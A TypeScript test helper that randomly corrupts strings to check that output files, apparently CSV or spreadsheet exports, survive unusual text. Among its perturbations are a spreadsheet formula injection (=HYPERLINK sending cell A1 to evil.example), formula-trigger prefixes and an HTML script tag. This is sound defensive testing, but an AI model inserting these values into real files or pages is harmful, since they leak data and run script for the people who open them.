// Text as people really write it, and as it breaks tables: every kind that an output file has to survive.
import type { Draw } from './open-draw.js';

type Disturbance = (text: string) => string;

const DISTURBANCES: Readonly<Record<string, Disturbance>> = {
  accents: (text) => `${text} — Ångström & Œuvre, Łódź`,
  decomposed: (text) => `${text} Zoe\u0308`,
  emoji: (text) => `🚀 ${text} 👩‍💻🇫🇷`,
  cjk: (text) => `${text}（東京本社・营销部）`,
  rtl: (text) => `${text} مدير المبيعات – מנהל`,
  bidi: (text) => `\u202e${text}\u202c`,
  quotes: (text) => `"${text}" aka 'the ''one''' ""`,
  commas: (text) => `${text}, Inc.; a, b\tand c|d`,
  newline: (text) => `${text}\nsecond line`,
  crlf: (text) => `${text}\r\nsecond line\r\n`,
  separator: (text) => `${text}\u2028next\u00a0line\u200b`,
  equals: (text) => `=HYPERLINK("https://evil.example/?x="&A1,"${text}")`,
  plus: (text) => `+1+1 ${text}`,
  minus: (text) => `-2+3 ${text}`,
  at: (text) => `@SUM(1,1) ${text}`,
  spaces: (text) => `  ${text}  `,
  html: (text) => `<b>${text}</b><script>alert("x")</script>&amp;`,
  numeral: () => '007',
  date: () => '1-2',
};

const KINDS = Object.values(DISTURBANCES);

/** Leaves nine texts in ten alone. */
export function disturb(text: string, draw: Draw): string {
  if (!draw.chance(0.1)) return text;
  return KINDS[draw.between(0, KINDS.length - 1)]?.(text) ?? text;
}
